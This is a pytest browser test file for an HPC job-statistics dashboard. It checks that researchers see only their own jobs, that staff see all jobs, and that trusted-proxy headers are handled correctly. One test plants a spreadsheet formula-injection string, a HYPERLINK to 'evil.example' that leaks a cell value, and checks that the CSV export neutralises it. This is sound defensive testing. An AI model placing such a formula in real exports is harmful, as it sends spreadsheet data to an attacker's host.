"""Access control with basic auth: researchers see their own jobs, staff see all.

A real ``panel serve`` behind Panel's login page, with a credentials file the
test writes; the refusal has to come from the queries, so the job ids are
typed straight into the address bar.
"""

from __future__ import annotations

import pytest
from conftest import PASSWORDS, PROXY
from pagewatch import PageWatch

from hpcperfstats.config import cluster_name

pytestmark = pytest.mark.browser


def signed_in(browser, base: str, user: str) -> PageWatch:
    watch = PageWatch(browser)
    watch.open(f"{base}/login")
    page = watch.page
    page.locator("input[name=username]").fill(user)
    page.locator("input[name=password]").fill(PASSWORDS[user])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_load_state("networkidle")
    return watch


def job_rows(page) -> list[str]:
    page.locator(".tabulator .tabulator-row").first.wait_for(timeout=30_000)
    return page.locator(".tabulator-cell[tabulator-field=jobid]").all_inner_texts()


def test_sign_in_is_required(web_basic, browser, screenshots):
    watch = PageWatch(browser)
    try:
        watch.open(f"{web_basic}/job?jobid=1001")
        assert "/login" in watch.page.url
        assert watch.page.get_by_text("alice").count() == 0
        watch.page.screenshot(path=str(screenshots / "login.png"))
        assert watch.errors == [], watch.errors
        watch.page.locator("input[name=username]").fill("alice")
        watch.page.locator("input[name=password]").fill("wrong")
        watch.page.get_by_role("button", name="Sign in").click()
        watch.page.get_by_text("Invalid username or password").wait_for(timeout=10_000)
    finally:
        watch.close()


def test_researcher_is_refused_another_users_job(web_basic, browser, screenshots):
    watch = signed_in(browser, web_basic, "alice")
    try:
        page = watch.page
        watch.open(f"{web_basic}/jobs")
        assert sorted(job_rows(page)) == ["1001", "1003"]
        assert page.get_by_text("Signed in as alice; you see your jobs.").count() == 1
        watch.open(f"{web_basic}/jobs?user=bob")
        page.get_by_text("of 0", exact=False).first.wait_for(timeout=30_000)
        watch.open(f"{web_basic}/job?jobid=1002")
        page.get_by_text("Job 1002 not found.").wait_for(timeout=30_000)
        assert page.get_by_text("bob").count() == 0
        page.screenshot(path=str(screenshots / "access-refused.png"), full_page=True)
        watch.open(f"{web_basic}/host?host=c002")
        page.get_by_text("Host c002 not found.").wait_for(timeout=30_000)
        watch.open(f"{web_basic}/compare?jobids=1001,1002")
        page.get_by_text("Not found: 1002").wait_for(timeout=30_000)
        watch.open(f"{web_basic}/job?jobid=1001")
        page.get_by_text("cfd-run").first.wait_for(timeout=30_000)
        assert watch.errors == [], watch.errors
    finally:
        watch.close()


def test_researcher_user_page_shows_only_their_own(web_basic, browser, screenshots):
    watch = signed_in(browser, web_basic, "alice")
    try:
        page = watch.page
        watch.open(f"{web_basic}/user?start=2026-03-01&end=2026-03-01")  # lands on alice
        assert sorted(job_rows(page)) == ["1001", "1003"]
        assert page.locator("h2", has_text="user alice").count() == 1
        assert page.get_by_text("Top wasted core-hours").count() == 0  # staff only
        page.screenshot(path=str(screenshots / "user-researcher.png"), full_page=True)
        for other in ("user=bob", "account=proj-ml"):  # bob's jobs: as if there were none
            watch.open(f"{web_basic}/user?{other}&start=2026-03-01&end=2026-03-01")
            page.get_by_text("No jobs match these filters").wait_for(timeout=30_000)
            tiles = page.locator(".hp-tile").all_inner_texts()
            assert "0\njobs" in tiles and "0\ncore-hours" in tiles, tiles
            assert page.locator("table.hp-breakdown tr").count() <= 1  # header only
            assert page.locator(".tabulator-cell", has_text="1002").count() == 0
        assert watch.errors == [], watch.errors
    finally:
        watch.close()


def test_staff_see_every_job(web_basic, browser, screenshots):
    watch = signed_in(browser, web_basic, "staffer")
    try:
        page = watch.page
        watch.open(f"{web_basic}/jobs")
        assert sorted(job_rows(page)) == ["1001", "1002", "1003"]
        watch.open(f"{web_basic}/job?jobid=1002")
        page.get_by_text("No value: CPU efficiency — job too short.").wait_for(timeout=30_000)
        assert page.get_by_text("Signed in as staffer (staff); you see all jobs.").count() == 1
        page.screenshot(path=str(screenshots / "access-staff.png"), full_page=True)
        assert watch.errors == [], watch.errors
    finally:
        watch.close()


def as_proxy_user(browser, headers: dict[str, str]) -> PageWatch:
    watch = PageWatch(browser)
    watch.context.set_extra_http_headers(PROXY | headers)
    return watch


def test_trusted_header_user_and_staff_group(web_header, browser):
    watch = as_proxy_user(browser, {"X-Forwarded-User": "bob"})
    try:
        watch.open(f"{web_header}/jobs")
        assert job_rows(watch.page) == ["1002"]
        watch.open(f"{web_header}/job?jobid=1001")
        watch.page.get_by_text("Job 1001 not found.").wait_for(timeout=30_000)
        assert watch.errors == [], watch.errors
    finally:
        watch.close()
    watch = as_proxy_user(browser, {"X-Forwarded-User": "carol",
                                    "X-Forwarded-Groups": "users, hpc-staff"})
    try:
        watch.open(f"{web_header}/jobs")
        assert sorted(job_rows(watch.page)) == ["1001", "1002", "1003"]
    finally:
        watch.close()
    watch = as_proxy_user(browser, {})  # the proxy names nobody: refused
    try:
        response = watch.page.goto(f"{web_header}/job?jobid=1001")
        assert response.status == 403
        assert watch.page.get_by_text("cfd-run").count() == 0
    finally:
        watch.close()


HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"Click for details")'


def test_researcher_csv_export_is_scoped_and_formula_safe(web_basic, pg_server, browser,
                                                          tmp_path):
    import csv

    import psycopg

    rows = [("1004", "alice", "+proj-cfd", HOSTILE), ("1005", "bob", "proj-ml", "-bob-secret")]
    with psycopg.connect(pg_server) as conn:
        for jobid, user, account, name in rows:
            conn.execute("INSERT INTO job_data (jobid, username, account, jobname, state, nnodes,"
                         " ncpus, elapsed_s, cluster)"
                         " VALUES (%s, %s, %s, %s, 'COMPLETED', 3, 8, 7200, %s)",
                         (jobid, user, account, name, cluster_name()))
    watch = signed_in(browser, web_basic, "alice")
    try:
        watch.open(f"{web_basic}/jobs")
        job_rows(watch.page)
        with watch.page.expect_download() as download:
            watch.page.get_by_role("button", name="Export CSV").click()
        path = tmp_path / "jobs.csv"
        download.value.save_as(path)
        exported = {r["jobid"]: r for r in csv.DictReader(path.open(newline=""))}
    finally:
        watch.close()
        with psycopg.connect(pg_server) as conn:
            conn.execute("DELETE FROM job_data WHERE jobid IN ('1004', '1005')")
    assert sorted(exported) == ["1001", "1003", "1004"]  # only alice's jobs
    assert exported["1004"]["name"] == "'" + HOSTILE
    assert exported["1004"]["account"] == "'+proj-cfd"
    assert exported["1004"]["nodes"] == "3" and exported["1004"]["runtime_s"] == "7200"
